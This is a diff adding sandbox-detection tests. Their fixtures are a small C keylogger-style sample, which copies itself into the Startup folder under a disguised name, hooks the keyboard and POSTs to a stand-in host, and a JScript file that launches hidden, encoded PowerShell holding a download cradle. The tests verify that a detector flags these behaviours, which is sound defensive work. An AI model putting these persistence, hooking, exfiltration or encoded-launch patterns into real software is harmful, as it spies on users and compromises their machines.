@@ -658,3 +658,55 @@ def test_dotnet_stealer_under_mono_sweeps_stores_persists_and_uploads(tmp_path):
     assert {"credential_access", "http_upload", "persistence_registry_run", "combo_credentials_exfil",
             "combo_persistence_c2"} <= ids(r)
     assert "credential stores that are not there" in detail(r, "credential_access")  # Mono's %APPDATA% is ~/.config
+
+
+KEYLOGGER = r"""
+#include <windows.h>
+#include <shlobj.h>
+#include <wininet.h>
+#include <stdio.h>
+static LRESULT CALLBACK kb(int c, WPARAM w, LPARAM l) { return CallNextHookEx(NULL, c, w, l); }
+int main(void) {
+    char startup[MAX_PATH], self[MAX_PATH], dst[MAX_PATH * 2];
+    SHGetFolderPathA(NULL, CSIDL_STARTUP, NULL, 0, startup);
+    GetModuleFileNameA(NULL, self, MAX_PATH);
+    sprintf(dst, "%s\\winlogon-helper.exe", startup);
+    CopyFileA(self, dst, FALSE);
+    HHOOK h = SetWindowsHookExW(WH_KEYBOARD_LL, kb, GetModuleHandleA(NULL), 0);
+    HINTERNET i = InternetOpenA("Mozilla/5.0", INTERNET_OPEN_TYPE_DIRECT, NULL, NULL, 0);
+    HINTERNET c = InternetConnectA(i, "keys.example-logs.test", 80, NULL, NULL, INTERNET_SERVICE_HTTP, 0, 0);
+    HINTERNET r = HttpOpenRequestA(c, "POST", "/k.php", NULL, NULL, NULL, 0, 0);
+    char body[] = "k=hello";
+    if (r) { HttpSendRequestA(r, "Content-Type: application/x-www-form-urlencoded\r\n", -1, body, 7);
+             InternetCloseHandle(r); }
+    InternetCloseHandle(c); InternetCloseHandle(i);
+    if (h) UnhookWindowsHookEx(h);
+    return 0;
+}
+"""
+
+
+@pytest.mark.sandbox
+@pytest.mark.slow
+@pytest.mark.skipif(WINE64 is not None, reason=f"Wine test unavailable: {WINE64}")
+def test_keylogger_in_the_startup_folder_posting_home(tmp_path, wine_template):
+    r = run_sample(tmp_path, compile_pe(tmp_path, KEYLOGGER, "kl", libs=("shell32", "wininet")), "Scan_0093.exe",
+                   timeout_s=60, stop_on_malicious=False)
+    assert r["verdict"] == "malicious", r["findings"]
+    assert {"keyboard_hook", "persistence_startup_folder", "self_copy", "combo_keylogger_exfil",
+            "combo_persistence_c2", "combo_self_copy_persistence"} <= ids(r)
+    assert "start menu/programs/startup/winlogon-helper.exe" in detail(r, "persistence_startup_folder").lower()
+
+
+JS_ENCODED = r"""
+var sh = new ActiveXObject("WScript.Shell");
+sh.Run("powershell.exe -NoP -W Hidden -Enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA", 0, true);
+"""
+
+
+@pytest.mark.sandbox
+@pytest.mark.slow
+@pytest.mark.skipif(WSH is not None, reason=f"Wine test unavailable: {WSH}")
+def test_jscript_starting_encoded_powershell(tmp_path, wine_template):
+    r = run_sample(tmp_path, JS_ENCODED.encode(), "invoice_09.js", timeout_s=60, stop_on_malicious=False)
+    assert "powershell_encoded_command" in ids(r) and r["verdict"] in ("suspicious", "malicious"), r["findings"]
